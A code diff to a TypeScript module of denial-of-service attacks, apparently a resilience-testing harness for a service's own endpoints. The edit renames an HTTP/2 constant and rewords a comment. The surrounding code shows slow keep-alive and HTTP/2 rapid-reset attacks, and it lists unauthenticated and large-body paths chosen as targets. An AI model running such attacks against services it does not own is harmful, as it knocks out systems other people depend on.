@@ -1,6 +1,6 @@
 import { connect, type Socket } from "node:net";
 import { gzipSync } from "node:zlib";
-import { FRAME, frame, OPENING } from "../load/http2-frames.ts";
+import { CLIENT_PREFACE, FRAME, frame } from "../load/http2-frames.ts";
 import { sendUnfinished, type UnfinishedBodies, unfinishedStreams } from "./unfinished-bodies.ts";
 
 /** The target of an attack. */
@@ -23,7 +23,7 @@ export interface AttackResult {
 /** Attacks until the signal aborts. */
 export type Attack = (target: Target, result: AttackResult, signal: AbortSignal) => Promise<void>;
 
-/** A path without authentication, and the path with the largest responses. */
+/** A request that needs no authentication, and the requests with the largest body limit. */
 const VISIT: UnfinishedBodies = { path: "/dni_manager/properties/x/visits", contentType: "application/json" };
 const BATCH: UnfinishedBodies = { path: "/dni_manager/tracking_numbers:add", contentType: "application/json" };
 const BATCH_CALL: UnfinishedBodies = {
@@ -43,7 +43,7 @@ export const ATTACKS: Readonly<Record<string, Attack>> = {
     return setInterval(() => socket.write(" "), 1000);
   }),
   "rapid reset (HTTP/2)": keepOpen(4, (socket) => {
-    socket.write(OPENING);
+    socket.write(CLIENT_PREFACE);
     const headers = Buffer.from([0x82, 0x86, 0x84, 0x41, 1, 0x61]);
     let streamId = -1;
     return setInterval(() => {
